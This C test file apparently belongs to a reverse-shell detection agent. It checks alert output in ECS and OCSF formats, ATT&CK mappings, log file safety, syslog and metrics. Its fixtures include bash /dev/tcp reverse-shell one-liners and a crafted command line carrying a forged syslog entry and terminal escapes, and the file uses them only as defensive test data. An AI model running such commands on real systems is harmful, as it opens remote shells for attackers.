/* test_outputs.c: the outputs (user/outputs/): JSON always valid UTF-8 with reversible escapes,
 * the command line cut with its head and tail kept, ECS and OCSF documents, rule ids and ATT&CK
 * techniques, risk scores, the output file's safety and rotation, syslog formats and queue
 * bounds, the metrics text, the token bucket, ECS events. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>
#include <json-c/json.h>
#include "argl.h"
#include "attack.h"
#include "jsonw.h"
#include "metrics.h"
#include "outfile.h"
#include "outfmt.h"
#include "ratelimit.h"
#include "rules.h"
#include "syslog_out.h"
#include "tap.h"

static const struct out_ident ident = { "host1", "0123456789abcdef0123456789abcdef", "boot-1" };

/* Undo utf8_escape: \\ -> \, \xHH -> the byte. */
static size_t unescape(const char *s, char *out)
{
	size_t n = 0;

	while (*s) {
		if (s[0] == '\\' && s[1] == '\\') {
			out[n++] = '\\', s += 2;
		} else if (s[0] == '\\' && s[1] == 'x') {
			char hex[3] = { s[2], s[3], 0 };

			out[n++] = (char)strtol(hex, NULL, 16), s += 4;
		} else {
			out[n++] = *s++;
		}
	}
	out[n] = '\0';
	return n;
}

static void test_utf8_escape_roundtrip(void)
{
	char buf[64], out[300];
	unsigned seed = 7;

	CHECK(utf8_valid("plain ascii", 11));
	CHECK(utf8_valid("caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x90\x9a", 14));
	CHECK(!utf8_valid("\xff", 1));
	CHECK(!utf8_valid("\xc0\xaf", 2));          /* overlong */
	CHECK(!utf8_valid("\xed\xa0\x80", 3));      /* a surrogate */
	CHECK(!utf8_valid("\xe2\x82", 2));          /* cut short */
	for (int round = 0; round < 3000; round++) {
		size_t n = (size_t)(rand_r(&seed) % sizeof(buf)), len;
		char *e;

		for (size_t i = 0; i < n; i++)
			buf[i] = (char)(rand_r(&seed) % 3 ? rand_r(&seed) % 256 : "\\x\xc3\xa9"[i % 4]);
		for (size_t i = 0; i < n; i++)
			if (!buf[i])
				buf[i] = 'z';
		e = utf8_escape(buf, n, &len);
		CHECK(utf8_valid(e, len));
		CHECKF(unescape(e, out) == n && !memcmp(out, buf, n), "round %d", round);
		free(e);
	}
}

static struct alert sample(void)
{
	struct alert a;

	memset(&a, 0, sizeof(a));
	a.id = 7, a.pid = 100, a.ppid = 99, a.uid = 1000, a.has_uid = true;
	a.severity = SEV_HIGH, a.direction = DIR_OUTBOUND;
	a.signals = SIG_RULE | SIG_STDIO_SOCKET | SIG_INTERPRETER | SIG_CMD_STDIN;
	a.score = 0.5, a.pscore = 0.9;
	snprintf(a.rule, sizeof(a.rule), "reverse-shell");
	snprintf(a.comm, sizeof(a.comm), "bash");
	snprintf(a.pcomm, sizeof(a.pcomm), "python3");
	snprintf(a.exe, sizeof(a.exe), "/usr/bin/bash");
	snprintf(a.pexe, sizeof(a.pexe), "/usr/bin/python3.11");
	snprintf(a.interp, sizeof(a.interp), "bash");
	snprintf(a.host, sizeof(a.host), "host1");
	snprintf(a.entity_id, sizeof(a.entity_id), "00112233aabbccdd");
	alert_set_cmd(&a, "bash -i", 7, false);
	snprintf(a.pcmd, sizeof(a.pcmd), "python3 -c x");
	a.has_peer = true;
	a.peer.kind = SW_FD_SOCK, a.peer.family = AF_INET, a.peer.pport = 4444, a.peer.lport = 5555;
	inet_pton(AF_INET, "127.0.0.1", a.peer.paddr);
	inet_pton(AF_INET, "127.0.0.1", a.peer.laddr);
	return a;
}

static json_object *get(json_object *o, const char *dotted)
{
	char key[64];
	const char *dot;

	while (o && (dot = strchr(dotted, '.'))) {
		snprintf(key, sizeof(key), "%.*s", (int)(dot - dotted), dotted);
		if (!json_object_object_get_ex(o, key, &o))
			return NULL;
		dotted = dot + 1;
	}
	return o && json_object_object_get_ex(o, dotted, &o) ? o : NULL;
}

static const char *gets_(json_object *o, const char *dotted)
{
	json_object *v = get(o, dotted);

	return v ? json_object_get_string(v) : "";
}

static bool in_array(json_object *arr, const char *s)
{
	for (size_t i = 0; arr && i < json_object_array_length(arr); i++)
		if (!strcmp(json_object_get_string(json_object_array_get_idx(arr, i)), s))
			return true;
	return false;
}

static void test_ecs_hostile_cmdline(void)
{
	struct alert a = sample();
	const char evil[] = "bash -c 'x'\n<81>Dec 1 forged: x\r\x1b[2J\xff\xfe end\\x41 \x7f\xc2\x9b" "1m";
	char out[512];
	size_t len;
	char *line;
	json_object *o;

	alert_set_cmd(&a, evil, strlen(evil), false);
	line = alert_ecs(&a, &ident, &len);
	CHECK(line && len == strlen(line) && line[len - 1] == '\n');
	CHECK(!memchr(line, '\n', len - 1) && !strchr(line, '\r') && !strchr(line, '\x1b'));
	CHECK(!strchr(line, '\x7f') && !strstr(line, "\xc2\x9b") && strstr(line, "\\u009b"));
	CHECK(utf8_valid(line, len));
	o = json_tokener_parse(line);
	CHECK(o != NULL);
	CHECK(in_array(get(o, "shellwatch.escaped"), "process.command_line"));
	CHECK(in_array(get(o, "shellwatch.escaped"), "process.args"));
	unescape(gets_(o, "process.command_line"), out);
	CHECKF(!strcmp(out, evil), "%s", gets_(o, "process.command_line"));
	CHECK(!get(o, "process.parent.args") || !in_array(get(o, "shellwatch.escaped"),
							    "process.parent.args"));
	json_object_put(o);
	free(line);
}

static void test_ecs_fields(void)
{
	struct alert a = sample();
	size_t len;
	char *line;

	snprintf(a.container, sizeof(a.container), "c0ffee");
	line = alert_ecs(&a, &ident, &len);
	json_object *o = json_tokener_parse(line);

	CHECK(!strcmp(gets_(o, "event.kind"), "alert"));
	CHECK(in_array(get(o, "event.category"), "intrusion_detection"));
	CHECK(in_array(get(o, "event.type"), "start"));
	CHECK(json_object_get_int(get(o, "event.severity")) == 73);
	CHECK(json_object_get_double(get(o, "event.risk_score")) >= 73);
	CHECK(!strcmp(gets_(o, "rule.id"), "SW-1001"));
	CHECK(!strcmp(gets_(o, "rule.name"), "reverse-shell"));
	CHECK(!strcmp(gets_(o, "threat.framework"), "MITRE ATT&CK"));
	CHECK(in_array(get(o, "threat.technique.id"), "T1059"));
	CHECK(in_array(get(o, "threat.technique.subtechnique.id"), "T1059.004"));
	CHECK(in_array(get(o, "threat.technique.id"), "T1571"));
	CHECK(json_object_get_int(get(o, "process.pid")) == 100);
	CHECK(json_object_get_int(get(o, "process.args_count")) == 2);
	CHECK(!strcmp(gets_(o, "process.parent.executable"), "/usr/bin/python3.11"));
	CHECK(!strcmp(gets_(o, "host.id"), ident.machine_id));
	CHECK(!strcmp(gets_(o, "host.hostname"), "host1"));
	CHECK(!strcmp(gets_(o, "agent.type"), "shellwatch"));
	CHECK(!strcmp(gets_(o, "destination.ip"), "127.0.0.1"));
	CHECK(json_object_get_int(get(o, "destination.port")) == 4444);
	CHECK(json_object_get_int(get(o, "source.port")) == 5555);
	CHECK(!strcmp(gets_(o, "user.id"), "1000"));
	CHECK(!strcmp(gets_(o, "container.id"), "c0ffee"));
	CHECK(!get(o, "shellwatch.escaped") && !get(o, "shellwatch.command_line_truncated"));
	CHECK(!get(o, "process.working_directory") && !get(o, "process.parent.working_directory"));
	json_object_put(o);
	free(line);
	/* arguments with spaces: split where argl says (include/argl.h), not at every space */
	snprintf(a.pcmd, sizeof(a.pcmd), "bash -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1");
	CHECK(argl_inner(sw_str_c(a.pcmd), sw_str_c("4,2,39"), a.pcmd_inner, sizeof(a.pcmd_inner)));
	line = alert_ecs(&a, &ident, &len);
	o = json_tokener_parse(line);
	CHECK(json_object_get_int(get(o, "process.parent.args_count")) == 3);
	CHECKF(json_object_array_length(get(o, "process.parent.args")) == 3 &&
	       !strcmp(json_object_get_string(json_object_array_get_idx(get(o, "process.parent.args"),
									  2)),
		       "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"), "%s", line);
	CHECK(!strcmp(gets_(o, "process.parent.command_line"), a.pcmd));
	json_object_put(o);
	free(line);
	/* working directories: named when known (OCSF 1.1 has no attribute for them) */
	snprintf(a.cwd, sizeof(a.cwd), "/tmp/a dir");
	snprintf(a.pcwd, sizeof(a.pcwd), ".../deep/end");
	for (int k = 0; k < 2; k++) {
		const char *pre = k ? "unmapped.shellwatch." : "process.";
		char f[2][64];

		snprintf(f[0], sizeof(f[0]), "%sworking_directory", pre);
		snprintf(f[1], sizeof(f[1]), "%s%s", pre, k ? "parent_working_directory" :
							    "parent.working_directory");
		line = k ? alert_ocsf(&a, &ident, &len) : alert_ecs(&a, &ident, &len);
		o = json_tokener_parse(line);
		CHECKF(!strcmp(gets_(o, f[0]), a.cwd) && !strcmp(gets_(o, f[1]), a.pcwd), "%s", line);
		json_object_put(o);
		free(line);
	}
}

static void test_ocsf_required(void)
{
	static const char *const required[] = {
		"activity_id", "category_uid", "class_uid", "type_uid", "time", "severity_id",
		"metadata.version", "metadata.product.vendor_name", "finding_info.uid",
		"finding_info.title", "confidence_id", "device.type_id", "actor.process.pid",
	};
	struct alert a = sample();
	size_t len;
	char *line = alert_ocsf(&a, &ident, &len);
	json_object *o = json_tokener_parse(line), *ev, *att;

	for (size_t i = 0; i < sizeof(required) / sizeof(required[0]); i++)
		CHECKF(get(o, required[i]), "%s missing", required[i]);
	CHECK(json_object_get_int(get(o, "class_uid")) == 2004);
	CHECK(json_object_get_int(get(o, "type_uid")) == 200401);
	CHECK(json_object_get_int(get(o, "severity_id")) == 4);
	CHECK(json_object_get_int(get(o, "confidence_id")) == 3);
	att = get(o, "finding_info.attacks");
	CHECK(att && json_object_array_length(att) == 3);
	CHECK(!strcmp(gets_(json_object_array_get_idx(att, 0), "sub_technique.uid"), "T1059.004"));
	ev = json_object_array_get_idx(get(o, "evidences"), 0);
	CHECK(ev && json_object_get_int(get(ev, "connection_info.direction_id")) == 2);
	CHECK(!strcmp(gets_(ev, "process.file.name"), "bash"));
	CHECK(json_object_get_int(get(ev, "dst_endpoint.port")) == 4444);
	json_object_put(o);
	free(line);
}

static void test_cmd_cut_keeps_head_and_tail(void)
{
	struct alert a;
	char big[6000];
	const char *tail = "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";

	memset(big, ' ', sizeof(big));
	memcpy(big, "sh -c", 5);
	memcpy(big + sizeof(big) - strlen(tail), tail, strlen(tail));
	memset(&a, 0, sizeof(a));
	alert_set_cmd(&a, big, sizeof(big), false);
	CHECK(a.cmd_trunc && a.cmd_len == sizeof(big));
	CHECK(strlen(a.cmd) <= ALERT_CMD_MAX - 1 && strlen(a.cmd) > ALERT_CMD_MAX - 40);
	CHECK(!strncmp(a.cmd, "sh -c", 5));
	CHECKF(strstr(a.cmd, tail) && strstr(a.cmd, " bytes cut...]"), "%s", a.cmd + 480);
	alert_set_cmd(&a, "short", 5, true);
	CHECK(a.cmd_trunc && a.cmd_len == 0 && !strcmp(a.cmd, "short"));
	memset(big, 'a', ALERT_CMD_MAX - 1);
	alert_set_cmd(&a, big, ALERT_CMD_MAX - 1, false);
	CHECK(!a.cmd_trunc && strlen(a.cmd) == ALERT_CMD_MAX - 1);
	/* a cut never splits a character: the result stays valid UTF-8 */
	for (size_t i = 0; i + 2 <= sizeof(big); i += 2)
		big[i] = '\xc3', big[i + 1] = '\xa9';
	alert_set_cmd(&a, big, sizeof(big), false);
	CHECK(utf8_valid(a.cmd, strlen(a.cmd)));
}

static void test_rule_ids_and_attacks(void)
{
	struct alert a = sample();
	struct attack_ref t[ATTACK_MAX];
	char buf[24], name[RULE_NAME_MAX];
	const char *p = rules_default_text;
	unsigned n;

	while ((p = strstr(p, "rule "))) {   /* every built-in rule has a fixed id */
		sscanf(p + 5, "%63s", name);
		snprintf(a.rule, sizeof(a.rule), "%s", name);
		CHECKF(strncmp(alert_rule_id(&a, buf, sizeof(buf)), "SW-X", 4), "%s", name);
		p += 5;
	}
	snprintf(a.rule, sizeof(a.rule), "my-site-rule");
	CHECK(!strncmp(alert_rule_id(&a, buf, sizeof(buf)), "SW-X", 4) && strlen(buf) == 12);
	a = sample();
	snprintf(a.interp, sizeof(a.interp), "python3.11");
	n = alert_attacks(&a, t);
	CHECK(n == 3 && !strcmp(t[0].id, "T1059.006") && !strcmp(t[1].id, "T1095"));
	a.peer.pport = 22;
	CHECK(alert_attacks(&a, t) == 2);
	a.has_peer = false, a.interp[0] = '\0';
	snprintf(a.comm, sizeof(a.comm), "implant");
	CHECK(alert_attacks(&a, t) == 1 && !strcmp(t[0].id, "T1059") && !t[0].parent_id);
}

static void test_risk_bands(void)
{
	struct alert a = sample();

	for (int s = SEV_LOW; s <= SEV_HIGH; s++) {
		double lo = alert_severity_score((enum severity)s);
		double hi = s == SEV_HIGH ? 100 : alert_severity_score((enum severity)(s + 1));

		a.severity = (enum severity)s;
		a.signals = ~0u, a.score = a.pscore = 1;
		CHECKF(alert_risk_score(&a) >= lo && alert_risk_score(&a) < hi, "%f", alert_risk_score(&a));
		a.signals = 0, a.score = a.pscore = -1;
		CHECK(alert_risk_score(&a) == lo);
	}
	a = sample();
	a.signals = SIG_SCORE;
	CHECK(alert_risk_score(&a) < alert_risk_score(&(struct alert){ .severity = SEV_HIGH,
		.signals = SIG_RULE | SIG_STDIO_SOCKET, .score = -1, .pscore = -1 }));
}

static char dir[64];

static void test_outfile_safety(void)
{
	struct outfile f;
	struct outfile_opts o = { 0 };
	char path[128], link[128], why[512];
	struct stat st;
	mode_t old = umask(022);

	snprintf(path, sizeof(path), "%s/out.json", dir);
	snprintf(link, sizeof(link), "%s/link.json", dir);
	o.path = path;
	CHECK(outfile_open(&f, &o, why, sizeof(why)) == 0);
	CHECK(stat(path, &st) == 0 && (st.st_mode & 0777) == 0640);
	outfile_close(&f);
	CHECK(symlink(path, link) == 0);
	o.path = link;
	CHECK(outfile_open(&f, &o, why, sizeof(why)) == -ELOOP && strstr(why, "symbolic link"));
	o.follow_symlink = true;
	CHECK(outfile_open(&f, &o, why, sizeof(why)) == 0);
	outfile_close(&f);
	CHECK(chmod(dir, 0777) == 0);     /* everyone may write, no sticky bit */
	o.path = path, o.follow_symlink = false;
	CHECKF(outfile_open(&f, &o, why, sizeof(why)) == -EPERM, "%s", why);
	CHECK(chmod(dir, 01777) == 0);    /* sticky, like /tmp: a file of another user is refused */
	if (geteuid() == 0 && chown(path, 65534, 65534) == 0)
		CHECKF(outfile_open(&f, &o, why, sizeof(why)) == -EPERM, "%s", why);
	unlink(path);
	CHECK(outfile_open(&f, &o, why, sizeof(why)) == 0);
	outfile_close(&f);
	CHECK(chmod(dir, 0700) == 0);
	o.path = "/dev/full";
	CHECK(outfile_open(&f, &o, why, sizeof(why)) == 0);
	CHECK(outfile_write(&f, "x\n", 2) == -ENOSPC);
	outfile_close(&f);
	unlink(link);
	unlink(path);
	umask(old);
}

static void test_outfile_rotation(void)
{
	struct outfile f;
	struct outfile_opts o = { .max_size = 100, .keep = 2 };
	char path[128], p[160], why[512], line[32], buf[256];
	int lines = 0;

	snprintf(path, sizeof(path), "%s/rot.json", dir);
	o.path = path;
	CHECK(outfile_open(&f, &o, why, sizeof(why)) == 0);
	for (int i = 0; i < 20; i++) {
		snprintf(line, sizeof(line), "{\"n\":%02d,\"pad\":\"xxxxxxxx\"}\n", i);
		CHECK(outfile_write(&f, line, strlen(line)) == 0);
	}
	outfile_close(&f);
	CHECK(f.rotations >= 5);
	for (int k = 0; k <= 3; k++) {
		FILE *in;

		snprintf(p, sizeof(p), k ? "%s.%d" : "%s", path, k);
		in = fopen(p, "r");
		CHECKF((k < 3) == (in != NULL), "%s", p);
		while (in && fgets(buf, sizeof(buf), in)) {
			CHECK(strlen(buf) == 26 && buf[25] == '\n');
			lines++;
		}
		if (in) {
			struct stat st;

			CHECK(fstat(fileno(in), &st) == 0 && st.st_size <= 100);
			fclose(in);
		}
		unlink(p);
	}
	/* 26-byte lines, 3 to a file: 20 lines are 6 rotated files and 2 lines; 2 files kept */
	CHECKF(lines == 8, "%d lines in the kept files", lines);
}

static void test_syslog_formats(void)
{
	struct syslog_dest d;
	char buf[512], why[128];
	size_t n;

	CHECK(syslog_parse_dest("tcp://127.0.0.1:6514", &d, why, sizeof(why)) == 0);
	CHECK(d.proto == SYSLOG_TCP);
	CHECK(syslog_parse_dest("udp://[::1]:514", &d, why, sizeof(why)) == 0 && d.proto == SYSLOG_UDP);
	CHECK(syslog_parse_dest("http://x", &d, why, sizeof(why)) == -1);
	CHECK(syslog_parse_dest("tcp://127.0.0.1", &d, why, sizeof(why)) == 0);   /* port 514 */
	n = syslog_format_msg(&d, buf, sizeof(buf), 1, "alert", "h1", 1800000000123456789ull, 42,
			      "{\"a\":\"x\ny\"}\n", 12);
	buf[n] = '\0';
	CHECKF(!strcmp(buf, "<81>1 2027-01-15T08:00:00.123456Z h1 shellwatch 42 alert - "
		       "{\"a\":\"x y\"}"), "%s", buf);
	syslog_local_dest(&d);
	n = syslog_format_msg(&d, buf, sizeof(buf), 4, "alert", "h1", 1800000000123456789ull, 42,
			      "{}", 2);
	buf[n] = '\0';
	CHECKF(!strncmp(buf, "<84>", 4) && strstr(buf, " shellwatch[42]: {}") && !strstr(buf, "h1"),
	       "%s", buf);
	d.format = SYSLOG_RFC5424;
	n = syslog_format_msg(&d, buf, sizeof(buf), 4, "event", "h1", 1800000000123456789ull, 42,
			      "{}", 2);
	buf[n] = '\0';
	CHECKF(!strncmp(buf, "<84>1 ", 6), "%s", buf);
}

/* A collector that is not there: the queue holds SYSLOG_QUEUE_MAX, the rest is dropped and
 * counted; at close what is left counts as dropped too. */
static void test_syslog_queue_bound(void)
{
	struct syslog_dest d;
	struct syslog_out *s;
	struct syslog_stats st;
	char why[128];

	CHECK(syslog_parse_dest("tcp://127.0.0.1:1", &d, why, sizeof(why)) == 0);
	s = syslog_out_new(&d);
	for (int i = 0; i < SYSLOG_QUEUE_MAX + 100; i++)
		syslog_out_send(s, 1, "alert", "{\"x\":1}", 7, i % 2);
	syslog_out_stats(s, &st);
	CHECKF(st.dropped == 100 && st.pending == SYSLOG_QUEUE_MAX && st.dropped_alerts == 50,
	       "dropped %llu pending %llu", (unsigned long long)st.dropped,
	       (unsigned long long)st.pending);
	syslog_out_close(s, 0, &st);
	CHECK(st.dropped == SYSLOG_QUEUE_MAX + 100 && st.sent == 0);
}

/* A real TCP collector on loopback: octet-counted frames, every message once. */
static void test_syslog_tcp_frames(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	socklen_t sl = sizeof(sa);
	int l = socket(AF_INET, SOCK_STREAM, 0), c;
	struct syslog_dest d;
	struct syslog_out *s;
	struct syslog_stats st;
	char url[64], why[128], buf[4096];
	size_t got = 0;
	ssize_t r;

	inet_pton(AF_INET, "127.0.0.1", &sa.sin_addr);
	CHECK(bind(l, (struct sockaddr *)&sa, sizeof(sa)) == 0 && listen(l, 1) == 0);
	getsockname(l, (struct sockaddr *)&sa, &sl);
	snprintf(url, sizeof(url), "tcp://127.0.0.1:%u", ntohs(sa.sin_port));
	CHECK(syslog_parse_dest(url, &d, why, sizeof(why)) == 0);
	s = syslog_out_new(&d);
	for (int i = 0; i < 3; i++)
		syslog_out_send(s, 1, "alert", "{\"n\":1}", 7, true);
	c = accept(l, NULL, NULL);
	syslog_out_close(s, 0, &st);   /* nothing waits: sent already, or dropped */
	while ((r = read(c, buf + got, sizeof(buf) - 1 - got)) > 0)
		got += (size_t)r;
	buf[got] = '\0';
	CHECKF(st.sent + st.dropped == 3, "sent %llu dropped %llu", (unsigned long long)st.sent,
	       (unsigned long long)st.dropped);
	for (const char *p = buf; *p; ) {   /* LEN SP MSG, LEN SP MSG, ... */
		char *end;
		unsigned long len = strtoul(p, &end, 10);

		CHECK(*end == ' ' && !strncmp(end + 1, "<81>1 ", 6));
		p = end + 1 + len;
		if (p > buf + got)
			break;
	}
	close(c);
	close(l);
}

static void test_metrics_text(void)
{
	struct metrics m;
	struct live_stats ls = { .events = 10, .filtered = 3, .dropped = 1 };
	struct judge_stats js = { .execs = 5 };
	struct sink_stats ss = { .alerts = 2 };
	struct metrics_view v = { .live = &ls, .judge = &js, .sink = &ss, .procs_capacity = 65536,
				  .streams_capacity = 8192 };
	struct alert a = sample();
	struct sw_event ev = { .kind = SW_EV_EXEC };
	size_t len;
	char *text, *line, *save;
	unsigned samples = 0;

	metrics_init(&m);
	metrics_event(&m, &ev);
	metrics_alert(&m, &a, 300000);        /* 0.3 ms */
	snprintf(a.rule, sizeof(a.rule), "we\"ird\\rule");
	metrics_alert(&m, &a, 0);
	text = metrics_render(&m, &v, &len);
	CHECK(text && len == strlen(text));
	CHECK(strstr(text, "shellwatch_events_total{kind=\"exec\"} 1\n"));
	CHECK(strstr(text, "shellwatch_events_dropped_total{stage=\"ringbuf\"} 1\n"));
	CHECK(strstr(text, "shellwatch_alerts_total{rule=\"reverse-shell\",severity=\"high\"} 1\n"));
	CHECK(strstr(text, "rule=\"we\\\"ird\\\\rule\""));
	CHECK(strstr(text, "shellwatch_exec_to_alert_seconds_bucket{le=\"0.00025\"} 0\n"));
	CHECK(strstr(text, "shellwatch_exec_to_alert_seconds_bucket{le=\"0.0005\"} 1\n"));
	CHECK(strstr(text, "shellwatch_exec_to_alert_seconds_count 1\n"));
	CHECK(strstr(text, "shellwatch_process_table_capacity 65536\n"));
	for (line = strtok_r(text, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		char name[128];
		double val;

		if (line[0] == '#') {
			CHECKF(!strncmp(line, "# HELP shellwatch_", 18) ||
			       !strncmp(line, "# TYPE shellwatch_", 18), "%s", line);
			continue;
		}
		CHECKF(sscanf(line, "%127[a-z_]", name) == 1 && strrchr(line, ' ') &&
		       sscanf(strrchr(line, ' ') + 1, "%lf", &val) == 1, "%s", line);
		samples++;
	}
	CHECK(samples > 40);
	free(text);
}

static void test_token_bucket(void)
{
	struct token_bucket b;
	int n = 0;

	tb_init(&b, 10, 10);
	for (int i = 0; i < 15; i++)
		n += tb_take(&b, 1000);
	CHECK(n == 10 && b.dropped == 5);
	n = 0;
	for (int i = 0; i < 15; i++)
		n += tb_take(&b, 1000 + 500000000ull);    /* half a second later: 5 more */
	CHECK(n == 5 && b.dropped == 15);
}

static void test_event_ecs(void)
{
	struct sw_event ev;
	size_t len;
	char *line;
	json_object *o;

	memset(&ev, 0, sizeof(ev));
	ev.kind = SW_EV_EXEC, ev.pid = 5, ev.ppid = 4, ev.has_pid = true, ev.has_start = true;
	ev.start_ns = 1000000000;
	ev.comm = sw_str_c("sh");
	ev.exec.exe = sw_str_c("/bin/sh");
	ev.exec.argv = sw_str_c("sh -c id");
	line = event_ecs(&ev, &ident, 1800000000000000000ull, &len);
	o = json_tokener_parse(line);
	CHECK(!strcmp(gets_(o, "event.kind"), "event") && !strcmp(gets_(o, "event.action"), "exec"));
	CHECK(json_object_get_int(get(o, "process.args_count")) == 3);
	CHECK(strlen(gets_(o, "process.entity_id")) == 16);
	json_object_put(o);
	free(line);
	ev.exec.argv = sw_str_c("sh -c echo hi"), ev.exec.argl = sw_str_c("2,2,7");
	line = event_ecs(&ev, &ident, 1800000000000000000ull, &len);
	o = json_tokener_parse(line);
	CHECKF(json_object_get_int(get(o, "process.args_count")) == 3, "%s", line);
	ev.exec.argv = sw_str_c("sh -c id"), ev.exec.argl = sw_str_c("");
	CHECK(!get(o, "process.working_directory"));
	json_object_put(o);
	free(line);
	ev.exec.cwd = sw_str_c("/srv/x");
	line = event_ecs(&ev, &ident, 1800000000000000000ull, &len);
	o = json_tokener_parse(line);
	CHECK(!strcmp(gets_(o, "process.working_directory"), "/srv/x"));
	json_object_put(o);
	free(line);
	memset(&ev, 0, sizeof(ev));
	ev.kind = SW_EV_SOCK, ev.pid = 6;
	ev.sock.sock.kind = SW_FD_SOCK, ev.sock.sock.family = AF_INET, ev.sock.sock.pport = 80;
	inet_pton(AF_INET, "127.0.0.1", ev.sock.sock.paddr);
	line = event_ecs(&ev, &ident, 1800000000000000000ull, &len);
	o = json_tokener_parse(line);
	CHECK(!strcmp(gets_(o, "event.action"), "connect"));
	CHECK(json_object_get_int(get(o, "destination.port")) == 80);
	CHECK(!strcmp(gets_(o, "network.direction"), "outbound"));
	json_object_put(o);
	free(line);
	ev.sock.sock.family = AF_UNIX;
	CHECK(!event_ecs(&ev, &ident, 0, &len) && len == 0);
	ev.sock.sock.family = AF_INET, ev.sock.ret = -ECONNREFUSED;
	CHECK(!event_ecs_wanted(&ev));
}

int main(void)
{
	snprintf(dir, sizeof(dir), "/tmp/sw-test-outputs.XXXXXX");
	if (!mkdtemp(dir))
		return 1;
	RUN(test_utf8_escape_roundtrip);
	RUN(test_ecs_hostile_cmdline);
	RUN(test_ecs_fields);
	RUN(test_ocsf_required);
	RUN(test_cmd_cut_keeps_head_and_tail);
	RUN(test_rule_ids_and_attacks);
	RUN(test_risk_bands);
	RUN(test_outfile_safety);
	RUN(test_outfile_rotation);
	RUN(test_syslog_formats);
	RUN(test_syslog_queue_bound);
	RUN(test_syslog_tcp_frames);
	RUN(test_metrics_text);
	RUN(test_token_bucket);
	RUN(test_event_ecs);
	rmdir(dir);
	return tap_done();
}
